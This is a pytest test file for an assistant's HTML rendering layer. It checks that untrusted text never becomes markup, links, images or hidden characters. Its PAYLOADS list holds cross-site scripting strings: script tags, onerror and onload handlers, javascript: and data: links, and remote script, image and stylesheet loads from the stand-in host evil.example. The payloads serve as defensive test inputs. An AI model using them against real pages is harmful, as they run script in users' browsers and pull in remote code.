"""Nothing untrusted becomes markup, a link, an image, a formula or hidden text on the page."""

import re
from dataclasses import replace
from html.parser import HTMLParser

import pytest
from markdown_it import MarkdownIt

from assistant.page.chat import endings, fragments
from assistant.page.chat.found import how_found
from assistant.page.chat.references import copy_button
from assistant.page.reading import excerpts
from assistant.page.reading.tables_in import drawn, tables_in
from assistant.page.render import Html, Mark, clean, escape, fill, label, marked
from assistant.types import (
    Answer,
    Citation,
    Coverage,
    Document,
    Doubt,
    DoubtKind,
    Ending,
    Passage,
    ScoredPassage,
    Section,
    Sentence,
)

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='http://evil.example/pixel.png'>",
    "<svg onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<style>@import 'http://evil.example/x.css'</style>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "<form action=http://evil.example><input name=q></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<base href='http://evil.example/'>",
    "<details open ontoggle=alert(1)>x</details>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "</p></div></details></blockquote><script>alert(1)</script>",
    "<!-- <script>alert(1)</script> -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    "` onmouseover=`alert(1)",
    '"><script>alert(1)</script>',
    "![x](http://evil.example/p.png)",
    "![x][ref]\n\n[ref]: http://evil.example/p.png",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](http://evil.example)",
    "<http://evil.example>",
    "http://evil.example/path",
    "https://evil.example",
    "www.evil.example",
    "someone@evil.example",
    "mailto:someone@evil.example",
    "xmpp:someone@evil.example",
    "# heading",
    "- item",
    "1. item",
    "> quote",
    "    code",
    "```\ncode\n```",
    "`code`",
    "**bold** __bold__ *it* _it_ ~~gone~~",
    "| a | b |\n|---|---|\n| 1 | 2 |",
    "---",
    "$119bn and $5",
    "$$x^2$$",
    "\\(x\\) and \\[y\\]",
    ":red[text] :material/home: :smile:",
    "{name} {0} %s %(x)s {{}}",
    "\\<b\\>",
    "C:\\new\\table",
    "AT&T & Co",
    "a" * 5000,
    "å" * 300 + " ß ﬁ 中文 עברית العربية 🏥",
]
INERT = [("div", {"class": "table"})]
INERT += [(tag, {}) for tag in ("code", "table", "thead", "tbody", "tr", "th", "td")]
CITED = "The partners met in Oslo."


class Elements(HTMLParser):
    """Collects the elements and the text of a piece of markup, as a browser would see them."""

    def __init__(self, markup: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.text = ""
        self.feed(markup)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.text += data


def document(text: str, title: str = "Title", publisher: str = "Publisher") -> Document:
    return Document("d1", "/x", f"{title}.txt", title, publisher, "2023-01-17", "en", text, "h")


def cited(text: str, title: str, number: int = 1) -> Citation:
    whole = document(f"{text}\n{CITED}\n{text}", title, text)
    start = whole.text.index(CITED)
    passage = Passage("p1", "d1", 0, 0, len(whole.text), heading=text)
    return Citation(number, whole, passage, start, start + len(CITED), CITED)


def every_fragment(payload: str) -> list[Html]:
    """Each fragment with the payload wherever something untrusted can stand."""
    citation = cited(payload, title=payload)
    found = ScoredPassage(citation.passage, citation.document, 1, 1, 1)
    answer = Answer(
        payload, (Sentence(payload, (citation,)),), Ending.COMPLETE, payload, 1, (found,), "m"
    )
    doubts = tuple(Doubt(kind, payload) for kind in DoubtKind)
    doubted = replace(answer, sentences=(Sentence(payload, (citation,), payload, doubts),))
    several = Answer(
        payload,
        (Sentence(payload, (citation,), payload),),
        Ending.COMPLETE,
        payload,
        1,
        (found,),
        "m",
        coverage=Coverage(1, 2),
    )
    return [
        fragments.answer(several, 0),
        fragments.question(payload),
        fragments.waiting(payload),
        fragments.unfinished(payload),
        fragments.answer(answer, 0),
        excerpts.sources(doubted, 0, {"d1": payload}),
        excerpts.nearest([found]),
        endings.ending(replace(answer, ending=Ending.CUT, advice=payload), payload, 0),
        endings.remarks(replace(answer, instead_of=payload, removed_markers=2)),
        how_found(answer, payload, 0),
        copy_button(doubted),
        fragments.answer(doubted, 0),
        fragments.notice(payload, payload),
        fragments.remark(payload),
        excerpts.about(payload, payload, payload, payload),
        excerpts.document(citation.document, [citation]),
    ]


def test_how_many_are_doubtful_is_said_of_several_sentences() -> None:
    doubt = Sentence("It rains.", (), "", (Doubt(DoubtKind.NUMBER, "7"),))
    alone = Answer("It rains.", (doubt,), Ending.COMPLETE, "rain?", 1, (), "m")
    assert not str(endings.remarks(alone))
    assert "One of 2" in str(
        endings.remarks(replace(alone, sentences=(doubt, Sentence("So.", ()))))
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_no_fragment_lets_a_payload_add_or_change_an_element(payload: str) -> None:
    for harmless, hostile in zip(every_fragment("word"), every_fragment(payload), strict=True):
        # Commands between backquotes are set apart in notices, tables of documents are drawn:
        # elements that do nothing.
        expected, actual = (
            [one for one in Elements(markup).tags if one not in INERT]
            for markup in (harmless, hostile)
        )
        assert [tag for tag, _ in actual] == [tag for tag, _ in expected]
        for (_, kept), (_, given) in zip(expected, actual, strict=True):
            assert given.keys() == kept.keys()
            address = given.get("href") or "documents?document=d1&start=1&end=2&hash=h"
            assert re.fullmatch(r"documents\?document=d1&start=\d+&end=\d+&hash=h", address)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload_is_shown_as_it_is(payload: str) -> None:
    assert Elements(escape(payload)).text == payload
    assert payload in Elements(fragments.question(payload)).text


@pytest.mark.parametrize("payload", PAYLOADS)
def test_label_is_plain_text_for_markdown(payload: str) -> None:
    parsed = MarkdownIt("gfm-like", {"linkify": False}).render(label(payload))
    inner = parsed.removeprefix("<p>").removesuffix("</p>\n")
    assert not re.search("<[^>]*>", inner), parsed
    shown = Elements(parsed).text.replace("\N{WORD JOINER}", "").strip()
    assert shown.rstrip("…").strip() in " ".join(payload.split())


@pytest.mark.parametrize("address", ["http://a.se", "www.a.se", "someone@a.se", ":smile:"])
def test_label_breaks_what_becomes_a_link_or_symbol_without_markup(address: str) -> None:
    plain = re.sub(r"\\(.)", r"\1", label(f"see {address}"))
    assert not re.search(r"https?://|www\.|\w@\w|:\w+:", plain)


@pytest.mark.parametrize(
    "hidden",
    ["\u202e", "\u2066", "\u200f", "\U000e0041\U000e0042", "\x1b", "\x00", "\ud800", "\U000e0100"],
)
def test_hidden_characters_become_visible(hidden: str) -> None:
    assert clean(f"a{hidden}b") == "a\N{REPLACEMENT CHARACTER}b"
    assert clean(f"a{hidden * 9}b") == "a\N{REPLACEMENT CHARACTER}b"
    escape(hidden).encode("utf-8")


def test_ordinary_text_is_left_alone() -> None:
    text = "Größe, “quoted” – naïve e\u0301 👩‍⚕️\tTab\nline"
    assert clean(text) == text
    assert clean("z" + "\u0335" * 40) == "z" + "\u0335" * 4
    assert clean("page\x0cbreak\ufeff") == "pagebreak"


def test_fill_escapes_text_and_keeps_markup() -> None:
    assert fill("<p>{a}{b}</p>", a="<b>", b=Html("<i>x</i>")) == "<p>&lt;b&gt;<i>x</i></p>"
    assert isinstance(fill("{a}", a=3), Html)


def test_marked_text_keeps_every_character_where_marks_overlap() -> None:
    text = "0123456789"
    marks = [Mark(2, 6, "cited", "one"), Mark(4, 8, "cited", "two"), Mark(0, 5, "heading")]
    shown = Elements(marked(text, 1, 9, marks))
    assert shown.text == "12345678"
    anchors = [attributes["id"] for tag, attributes in shown.tags if tag == "a"]
    assert anchors == ["one", "two"]


def test_highlighted_words_are_the_quote() -> None:
    citation = cited("<b>before & after</b>", "Title")
    markup = excerpts.document(citation.document, [citation])
    words = re.findall("<mark[^>]*>(.*?)</mark>", markup, re.DOTALL)
    assert Elements("".join(words)).text == citation.quote


def test_markers_lead_to_their_sources() -> None:
    first, second = cited("one", "One"), cited("two", "Two", number=2)
    sentences = (Sentence("A [1].", (first,)), Sentence("B.", (second, first)))
    answer = Answer("A [1].\n\nB.", sentences, Ending.COMPLETE, "q", 1, (), "m")
    shown = Elements(fragments.answer(answer, 7))
    links = [attributes["data-citation"] for tag, attributes in shown.tags if tag == "a"]
    assert shown.text == "A [1].\xa0[1]B.\xa0[2]\xa0[1]"  # as it is copied
    assert links == ["7:cited:1", "7:cited:2", "7:cited:1"]
    assert [tag for tag, _ in shown.tags].count("p") == 2
    listed = Elements(excerpts.sources(answer, 7, {})).tags
    assert {a["data-citation"] for tag, a in listed if tag == "a"} == set(links)


def test_sources_are_grouped_by_document_in_order_of_first_citation() -> None:
    one, two = document("x" * 9, "One"), document("y" * 9, "Two")
    two = Document("d2", *[getattr(two, f) for f in list(Document.__slots__)[1:]])
    passage = Passage("p", "d", 0, 0, 9)
    numbered = [Citation(n, d, passage, 0, 1, d.text[0]) for n, d in ((1, two), (2, one), (3, two))]
    groups = excerpts.by_document(numbered)
    assert [(d.id, [c.number for c in cs]) for d, cs in groups] == [("d2", [1, 3]), ("d1", [2])]


@pytest.mark.parametrize(
    ("published", "words"), [("2023-01-17", "17 January 2023"), ("2023", "2023"), ("", "")]
)
def test_dates_read_as_words(published: str, words: str) -> None:
    assert f"<bdi>{words}</bdi>" in excerpts.about("x", published, "en") or not words


def test_stream_over_several_documents_looks_as_its_finished_list() -> None:
    titles = ["Alpha", "Alpha: the start", "Beta"]
    first, second = cited("one", titles[1]), cited("two", titles[2], number=2)
    sentences = (Sentence("A.", (first,), titles[1]), Sentence("B.", (second,), titles[2]))
    text = "Alpha: the start: A. [1]\n\nBeta: B. [2]"
    answer = Answer(text, sentences, Ending.COMPLETE, "q", 1, (), "m", coverage=Coverage(2, 3))
    streamed = fragments.unfinished(text, titles)
    finished = fragments.answer(answer, 0)
    for markup in (streamed, finished):
        assert re.findall("<strong><bdi.*?>(.*?)</bdi></strong>", markup) == titles[1:]
    assert streamed.count("<li") == finished.count("<li") == 2
    assert "From 2 of 3 documents" in Elements(finished).text
    assert fragments.unfinished("Al", titles).count("<p>") == 1


MARKDOWN = "---\ntitle: Oslo\npublisher: City\n---\n\n## A meeting\n\nThey met. They left.\n"


def markdown_citation(quote: str) -> Citation:
    plain = document(MARKDOWN)
    section = Section(MARKDOWN.index("##"), "A meeting")
    whole = Document(
        **{f: getattr(plain, f) for f in Document.__slots__} | {"sections": (section,)}
    )
    start = MARKDOWN.index(quote)
    passage = Passage("p1", "d1", 0, 0, len(MARKDOWN))
    return Citation(1, whole, passage, start, start + len(quote), quote)


@pytest.mark.parametrize(
    ("quote", "shown"), [("They met.", "They met."), ("## A meeting", "A meeting")]
)
def test_quotes_leave_out_markdown_signs(quote: str, shown: str) -> None:
    citation = markdown_citation(quote)
    answer = Answer("x", (Sentence("x", (citation,)),), Ending.COMPLETE, "q", 1, (), "m")
    listed = Elements(excerpts.sources(answer, 0, {}))
    assert f"“{shown}”" in listed.text
    assert "#" not in listed.text
    assert {a.get("data-quote") for tag, a in listed.tags if tag == "a"} == {shown}


def test_nearest_passage_leaves_out_markdown_signs_and_front_matter() -> None:
    citation = markdown_citation("They met.")
    shown = Elements(
        excerpts.nearest([ScoredPassage(citation.passage, citation.document, 1, 1, 1)])
    )
    assert "#" not in shown.text
    assert "---" not in shown.text
    assert "A meeting\n\nThey met. They left." in shown.text


def table_of(text: str, *marks: Mark) -> str:
    found = list(tables_in(text, 0, len(text)))
    assert len(found) == 1
    return drawn(text, found[0], marks, set())


def test_rows_of_a_document_are_drawn_as_a_table_and_a_cited_cell_is_marked() -> None:
    text = "Staff\nTown: Selby | 2023: 110 | 2024: 140\nTown: Goole | 2024: 75\n\nOther text."
    at = text.index("2024: 75")
    shown = table_of(text, Mark(at, at + 8, "cited", "words-1", "1"))
    assert shown.startswith('<div class="table"><table><thead><tr><th>Town</th><th>2023</th>')
    assert "<tr><td>Selby</td><td>110</td><td>140</td></tr>" in shown
    assert '<td>Goole</td><td></td><td><a id="words-1"' in shown
    assert '<mark class="cited" data-of="words-1">75</mark></td></tr>' in shown
    label = text.index("2023")
    assert ">110</mark>" in table_of(text, Mark(label, label + 4, "cited", "words-1", "1"))


def test_a_cell_over_two_columns_goes_over_both() -> None:
    text = "Town: Selby | 2023: 110 | 2024: 140\nTown: Goole | 2023, 2024: closed"
    shown = table_of(text)
    assert shown.count("<th>") == 3
    assert '<tr><td>Goole</td><td colspan="2">closed</td></tr>' in shown


def test_a_mark_over_several_cells_has_one_target() -> None:
    text = "Town: Selby | 2023: <b>\nTown: Goole | 2023: 75"
    shown = table_of(text, Mark(0, len(text), "cited", "words-1", "1"))
    assert shown.count('id="words-1"') == 1
    assert shown.count("<mark") == 4
    assert "&lt;b&gt;" in shown


def test_tables_of_markdown_and_rows_without_headers() -> None:
    text = "| Town | Staff |\n|---|--:|\n| Selby | 110 |\n"
    assert "<th>Town</th><th>Staff</th></tr></thead><tbody><tr><td>Selby</td><td>110</td>" in (
        table_of(text)
    )
    assert "<tr><td>Selby</td><td>110</td></tr>" in table_of("Selby | 110\nGoole | 75")
    assert not list(tables_in("Either a | b or c.\n\nNothing else.", 0, 30))
